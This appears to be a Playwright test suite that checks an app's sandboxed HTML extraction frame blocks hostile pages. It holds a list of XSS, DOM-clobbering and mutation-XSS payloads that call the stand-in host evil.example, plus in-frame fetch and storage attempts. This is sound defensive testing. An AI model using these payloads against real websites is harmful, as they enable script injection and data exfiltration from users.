import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { type Browser, chromium, expect, type Page, test } from '@playwright/test';
import { FRAME_POLICY } from '../../electron/content-policy.ts';
import { extractionReplySchema } from '../../shared/model/article-draft.ts';
import { findChromium } from '../host/find-runtime.mjs';

const root = path.resolve(import.meta.dirname, '../..');
const ORIGIN = 'https://bundle.app.localhost';
const corpus = path.resolve(root, '../shared/corpora/hostile/html-payloads.json');
/** Where the frame was built; the same variable moves the build (vite.frame.config.ts). */
const folder = process.env.FRAME_OUT_DIR ?? path.join(root, 'dist/renderer');
const built = (name: string) => readFileSync(path.join(folder, name), 'utf8');

/** Pieces of hostile HTML of our own, each with the trick it tries. */
const OWN_PAYLOADS: readonly string[] = [
  '<script>window.top.postMessage("hit","*");parent.hit?.()</script>',
  '<img src=x onerror="fetch(`https://evil.example/onerror`)">',
  '<svg><script>fetch("https://evil.example/svg")</script></svg><svg onload="fetch(`https://evil.example/onload`)">',
  '<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>parent.location=`https://evil.example/nav`</script>"></iframe>',
  '<link rel="stylesheet" href="https://evil.example/style.css"><link rel="preconnect" href="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">',
  '<video autoplay src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video><object data="https://evil.example/o"></object>',
  '<a href="javascript:fetch(`https://evil.example/js`)" autofocus onfocus="fetch(`https://evil.example/focus`)">Story link</a>',
  '<noscript><img src="https://evil.example/noscript.png"></noscript><template><img src="https://evil.example/template.png"></template>',
  '<form><input name=parentNode><input name=firstChild><input id=nextSibling></form><img name=body><img name=querySelectorAll><form name=documentElement></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=https://evil.example/mutation onerror=alert(1)&gt;">',
];

/** The hostile pages of the corpus that may lie beside the project. */
function readCorpus(): readonly string[] {
  const entries = JSON.parse(readFileSync(corpus, 'utf8')) as readonly { payload: string }[];
  return entries.map(({ payload }) => payload);
}

let browser: Browser;
test.beforeAll(async () => {
  browser = await chromium.launch({
    executablePath: findChromium() ?? '',
    args: process.getuid?.() === 0 ? ['--no-sandbox'] : [],
  });
});
test.afterAll(() => browser.close());

/** What the app serves of the frame and the window around it. */
function findFile(pathname: string): { contentType: string; body: string; policy: string } | null {
  if (pathname === '/')
    return { contentType: 'text/html', body: '<!doctype html><title>window</title><body></body>', policy: '' };
  if (!/^\/extraction-frame(?:\.html|\.js|\/[\w-]+\.js)$/.test(pathname)) return null;
  const contentType = pathname.endsWith('.html') ? 'text/html' : 'text/javascript';
  return { contentType, body: built(pathname.slice(1)), policy: FRAME_POLICY };
}

/** A window with the built frame, as the app serves it; `requests` lists what was asked for beside the app's own files. */
async function openWindow(): Promise<{ page: Page; requests: string[]; problems: string[] }> {
  const page = await browser.newPage();
  const requests: string[] = [];
  const problems: string[] = [];
  page.on('dialog', (dialog) => {
    requests.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    if (message.type() === 'error') problems.push(message.text());
  });
  await page.route('**/*', (route) => {
    const url = new URL(route.request().url());
    const file = url.origin === ORIGIN ? findFile(url.pathname) : null;
    if (file) {
      const { policy, ...rest } = file;
      const headers = { 'x-content-type-options': 'nosniff', ...(policy ? { 'content-security-policy': policy } : {}) };
      return route.fulfill({ ...rest, headers });
    }
    requests.push(url.href);
    return route.abort();
  });
  await page.goto(`${ORIGIN}/`);
  await page.evaluate(() => {
    const state = window as unknown as Record<string, unknown>;
    state.open = () =>
      new Promise<MessagePort>((resolve) => {
        const frame = document.createElement('iframe');
        frame.setAttribute('sandbox', 'allow-scripts');
        frame.hidden = true;
        frame.onload = () => {
          const { port1, port2 } = new MessageChannel();
          frame.contentWindow?.postMessage('port', '*', [port2]);
          resolve(port1);
        };
        frame.src = './extraction-frame.html';
        document.body.append(frame);
      });
    state.extract = async (base64: string, fileName: string, limit: number) => {
      state.port ??= await (state.open as () => Promise<MessagePort>)();
      const port = state.port as MessagePort;
      const file = Uint8Array.from(atob(base64), (character) => character.charCodeAt(0)).buffer;
      return new Promise<string | null>((resolve) => {
        setTimeout(() => resolve(null), limit);
        // Pages that were read are told before the answer.
        port.onmessage = ({ data }: MessageEvent<{ json?: string }>) => {
          if (data.json !== undefined) resolve(data.json);
        };
        const importedAt = '2026-11-23T12:00:00.000Z';
        const question = { ask: 'open', fileKey: fileName, fileName, file, importedAt, given: null, container: null };
        port.postMessage({ ...question, id: 1, notBy: null }, [file]);
      });
    };
  });
  return { page, requests, problems };
}

type Extract = (base64: string, fileName: string, limit: number) => Promise<string | null>;
const extractFile = (page: Page, bytes: Buffer, fileName: string, limit = 30_000) =>
  page.evaluate(([source, name, ms]) => (window as unknown as { extract: Extract }).extract(source, name, ms), [
    bytes.toString('base64'),
    fileName,
    limit,
  ] as const);
const extract = (page: Page, html: string, limit = 30_000) => extractFile(page, Buffer.from(html), 'page.html', limit);

const story = (inside: string) =>
  `<!doctype html><html lang="en"><head><title>Harbour radar</title></head><body><article><h1>Harbour radar</h1>${'<p>The committee said on Tuesday that the stations will be delivered in the spring, and that all questions have been settled.</p>'.repeat(10)}${inside}<p>The last sentence of the story stands here, after all of the tricks.</p></article></body></html>`;

test('a page is taken apart in the frame under the policy that the app serves', async () => {
  const { page, problems } = await openWindow();
  const reply = extractionReplySchema.parse(JSON.parse((await extract(page, story(''))) ?? 'null'));
  expect(problems).toEqual([]);
  expect(reply).toMatchObject({
    status: 'read',
    draft: { title: { value: 'Harbour radar' }, extractor: { name: 'readability 0.6.0' } },
  });
  await page.close();
});

const documents = path.join(root, 'test/fixtures/documents');
for (const fileName of readdirSync(documents).sort()) {
  test(`${fileName} is read in the frame under the policy that the app serves, and asks for nothing`, async () => {
    const { page, problems, requests } = await openWindow();
    const json = await extractFile(page, readFileSync(path.join(documents, fileName)), fileName);
    const reply = extractionReplySchema.parse(JSON.parse(json ?? 'null'));
    // The styles of foreign pages are refused by the policy, as they should be.
    const others = problems.filter((problem) => !problem.startsWith('Applying inline style'));
    expect({ others, requests }).toEqual({ others: [], requests: [] });
    // What is wrong with the broken ones is told apart in test/browser/extract.
    expect(['read', 'container', 'refused', 'no-text']).toContain(reply.status);
    expect('reason' in reply ? reply.reason : '').not.toMatch(/could not be taken apart|No extractor/);
    await page.close();
  });
}

for (const { whose, list } of [
  { whose: 'our own', list: () => OWN_PAYLOADS },
  { whose: 'the corpus', list: readCorpus },
]) {
  test(`nothing in a hostile page of ${whose} runs, loads or navigates`, async () => {
    test.skip(list === readCorpus && !existsSync(corpus), 'the corpus is not beside the project');
    test.setTimeout(180_000);
    const payloads = list();
    const { page, requests } = await openWindow();
    let read = 0;
    for (let start = 0; start < payloads.length; start += 10) {
      const some = payloads.slice(start, start + 10);
      for (const html of [story(some.join('\n')), ...(start === 0 ? some : [])]) {
        const reply = extractionReplySchema.parse(JSON.parse((await extract(page, html)) ?? 'null'));
        if (reply.status === 'read') read++;
        expect(JSON.stringify(reply)).not.toMatch(/"target":"(?!https?:)/);
      }
    }
    await page.waitForTimeout(300);
    expect(read).toBeGreaterThan(payloads.length / 20);
    expect(requests).toEqual([]);
    expect(page.url()).toBe(`${ORIGIN}/`);
    await page.close();
  });
}

test('the same hostile pages do run in a document that is shown', async () => {
  const control = await browser.newPage();
  let hits = 0;
  control.on('dialog', (dialog) => {
    hits++;
    void dialog.dismiss();
  });
  await control.route('**/*', (route) => {
    hits++;
    return route.abort();
  });
  for (const payload of OWN_PAYLOADS) await control.setContent(story(payload), { waitUntil: 'commit' }).catch(() => {});
  await control.waitForTimeout(300);
  expect(hits, 'the positive control: without it the tests above prove nothing').toBeGreaterThan(5);
  await control.close();
});

test('the frame reaches neither the window nor a database nor the network', async () => {
  const { page, requests } = await openWindow();
  await extract(page, story(''));
  const frame = page.frames().find((one) => one.url().endsWith('extraction-frame.html'));
  const reached = await frame?.evaluate(async () => {
    const attempts: Record<string, () => unknown> = {
      parent: () => window.parent.document.title,
      storage: () => window.localStorage.length,
      database: () =>
        new Promise((resolve, reject) => {
          const request = indexedDB.open('x');
          request.onsuccess = () => resolve('opened');
          request.onerror = () => reject(request.error);
        }),
      network: () => fetch('https://evil.example/'),
      upload: () => fetch('./upload', { method: 'POST', body: 'x' }),
      // Its scripts come by the one policy that names them; nothing else can make the address of a script.
      script: () => {
        document.createElement('script').src = './extraction-frame/pdf.js';
      },
      policy: () =>
        (
          window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
        ).trustedTypes.createPolicy('dateline-parts', { createScriptURL: (address: string) => address }),
    };
    const results: string[] = [];
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        await attempt();
        results.push(name);
      } catch {
        // Refused, as it must be.
      }
    }
    return { results, origin: window.origin };
  });
  expect(reached).toEqual({ results: [], origin: 'null' });
  expect(requests).toEqual([]);
  await page.close();
});

test('a frame that is kept busy is removed at once, the window stays smooth, and the next frame works', async () => {
  const { page } = await openWindow();
  const deep = `<body>${'<div>'.repeat(58_000)}words`;
  const gap = page.evaluate(
    () =>
      new Promise<number>((resolve) => {
        let last = performance.now();
        let longest = 0;
        const end = last + 2500;
        const step = () => {
          const now = performance.now();
          longest = Math.max(longest, now - last);
          last = now;
          if (now < end) setTimeout(step, 4);
          else resolve(longest);
        };
        step();
      }),
  );
  const reply = await extract(page, deep, 2000);
  const longest = await gap;
  const removal = await page.evaluate(() => {
    const started = performance.now();
    document.querySelector('iframe')?.remove();
    delete (window as unknown as Record<string, unknown>).port;
    return performance.now() - started;
  });
  test.info().annotations.push({
    type: 'measured',
    description: `longest gap ${longest.toFixed(0)} ms, removal ${removal.toFixed(0)} ms, ${reply === null ? 'stuck' : 'answered in time'}`,
  });
  console.log(test.info().annotations[0]?.description);
  expect(removal).toBeLessThan(1000);
  const next = extractionReplySchema.parse(JSON.parse((await extract(page, story(''))) ?? 'null'));
  expect(next.status).toBe('read');
  await page.close();
});
